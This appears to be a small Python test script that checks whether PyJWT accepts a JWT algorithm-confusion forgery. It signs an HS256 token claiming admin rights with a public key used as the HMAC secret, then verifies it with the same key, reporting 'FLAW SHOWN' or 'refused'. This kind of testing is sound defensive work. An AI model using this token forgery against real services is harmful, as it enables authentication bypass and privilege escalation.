"""Sign a token with a public key as if it were a secret, and have it verified with the same key."""

import base64
import hashlib
import hmac
import sys

import jwt

PUBLIC = b"ecdsa-sha2-nistp256 AAAAE2VjZHNhLXNoYTItbmlzdHAyNTYAAAAIbmlzdHAyNTYAAABBBAMBAQ== example"
SECRET = b"a secret of at least thirty-two bytes"


def forge(key):
    """A token signed by hand, as an outsider would make it."""
    parts = (b'{"typ":"JWT","alg":"HS256"}', b'{"admin":true}')
    head, body = (base64.urlsafe_b64encode(part).rstrip(b"=") for part in parts)
    signature = hmac.new(key, head + b"." + body, hashlib.sha256).digest()
    return (head + b"." + body + b"." + base64.urlsafe_b64encode(signature).rstrip(b"=")).decode()


benign = "benign" in sys.argv
key = SECRET if benign else PUBLIC
try:
    print("accepted:", jwt.decode(forge(key), key, algorithms=["HS256", "ES256", "EdDSA"]))
    print("" if benign else "FLAW SHOWN")
except jwt.exceptions.InvalidKeyError as error:
    print("refused:", error)
